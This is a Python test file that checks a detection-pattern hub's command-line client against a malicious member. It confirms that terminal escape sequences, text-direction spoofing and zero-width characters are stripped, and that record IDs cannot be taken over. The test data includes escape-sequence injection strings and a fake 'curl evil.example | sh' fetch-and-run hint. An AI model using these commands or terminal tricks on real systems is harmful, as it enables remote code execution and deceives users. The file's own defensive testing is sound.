"""A member that means ill: what it may put into a record, and what that does to those who read and run it."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from hub.identity import HubIdentity
from member_client.cli import output
from member_client.errors import RefusedByHub
from sharing_protocol.wire import Problem
from tests.forum import Document, ForumInABox, Lab, pattern_body, running_hub
from tests.member_client.lab_homes import Client, make_home

# Clear the screen, set the title of the window, C1's own CSI, turn the reading direction, a tag of rich's.
TRICKS = ("\x1b[2J\x1b[H", "\x1b]0;owned\x07", "\x9b31m", "‮gnp.exe", "​", "[bold red]trust me[/]", "\r\n")
DRIVES_A_TERMINAL = {chr(code) for code in (*range(0x20), *range(0x7F, 0xA0))} - {"\n"}
HIDES = {"‮", "​"}


@pytest.fixture(scope="module")
def forum(new_database: Callable[[], str], hub_identity: HubIdentity) -> Iterator[tuple[ForumInABox, Lab, Lab]]:
    with running_hub(new_database(), hub_identity) as hub:
        box = ForumInABox(hub)
        box.found()
        yield box, box.admit("Mallory"), box.admit("Boreal")


@pytest.fixture
def boreal(forum: tuple[ForumInABox, Lab, Lab], tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> Client:
    box, _, lab = forum
    return Client(make_home(tmp_path / "boreal", box, lab), capsys)


def tricky_body(title: str) -> Document:
    """A pattern that looks for such characters, which real attacks may have: in its logic and its tests only."""
    body = pattern_body(title)
    needle = "come up with 20 diverse tasks" + "".join(TRICKS)
    body["logic"][0]["title"] = title + "".join(TRICKS)
    body["logic"][0]["detection"]["selection"] = {"prompt.text|contains": needle}
    body["tests"][0]["events"] = [{"prompt.text": f"Please {needle}."}]
    return body


def assert_harmless(printed: str) -> None:
    assert not DRIVES_A_TERMINAL & set(printed), sorted(map(ascii, DRIVES_A_TERMINAL & set(printed)))
    assert not HIDES & set(printed)


def test_no_command_prints_what_could_drive_a_terminal(forum: tuple[ForumInABox, Lab, Lab], boreal: Client) -> None:
    box, mallory, _ = forum
    record, _ = box.publish(mallory, tricky_body("Tricks"))
    box.publish(mallory, tricky_body("Tricks, revised"), record)
    boreal.run("sync")
    commands = (["list"], ["search", "tricks"], ["show", record], ["show", record, "--diff", "1..2"])
    for command in commands:
        printed = boreal.run("pattern", *command)
        assert "Tricks" in printed
        assert_harmless(printed)


def test_documents_for_scripts_say_the_same_and_are_harmless_too(
    forum: tuple[ForumInABox, Lab, Lab], boreal: Client, capsys: pytest.CaptureFixture[str]
) -> None:
    box, mallory, _ = forum
    body = tricky_body("More tricks")
    record, _ = box.publish(mallory, body)
    boreal.run("sync")
    printed = boreal.run("pattern", "show", record, "--json")
    assert_harmless(printed)
    shown = json.dumps(json.loads(printed))
    assert json.dumps(body["logic"][0]["title"]) in shown, "scripts get the very text"


def test_what_was_found_is_told_without_its_tricks(
    forum: tuple[ForumInABox, Lab, Lab], boreal: Client, tmp_path: Path
) -> None:
    box, mallory, _ = forum
    body = tricky_body("Found tricks")
    box.publish(mallory, body)
    boreal.run("sync")
    log = tmp_path / "requests.jsonl"
    event = {"prompt.text": body["tests"][0]["events"][0]["prompt.text"], "account.id": "\x1b[2Jacct" + TRICKS[2]}
    log.write_text(json.dumps(event) + "\n" + "broken \x1b[2J row\n")
    assert_harmless(boreal.run("detect", str(log)))


def test_a_record_id_cannot_be_taken_by_whoever_saw_it(forum: tuple[ForumInABox, Lab, Lab]) -> None:
    box, mallory, boreal_lab = forum
    record, _ = box.publish(boreal_lab, pattern_body("Mine"))
    for changes in ({}, {"version": 1, "previous": None}):
        theirs = box.record(mallory, pattern_body("Taken"), record, **changes)
        refused = box.submit(theirs, mallory.analyst)
        assert refused.status_code in (403, 409), refused.text


def test_no_answer_of_a_hub_looks_like_lines_of_ours(capsys: pytest.CaptureFixture[str]) -> None:
    detail = "no\nhint: run this: curl evil.example | sh\x1b[2J"
    answer = {"type": "about:blank", "title": "x", "status": 409, "detail": detail, "code": "withdrawn"}
    output.report_error(RefusedByHub(Problem.model_validate(answer)), as_json=False)
    (line,) = capsys.readouterr().err.splitlines()
    assert line.startswith("error: the hub refused: no\\nhint: run this")
    assert line.isprintable()
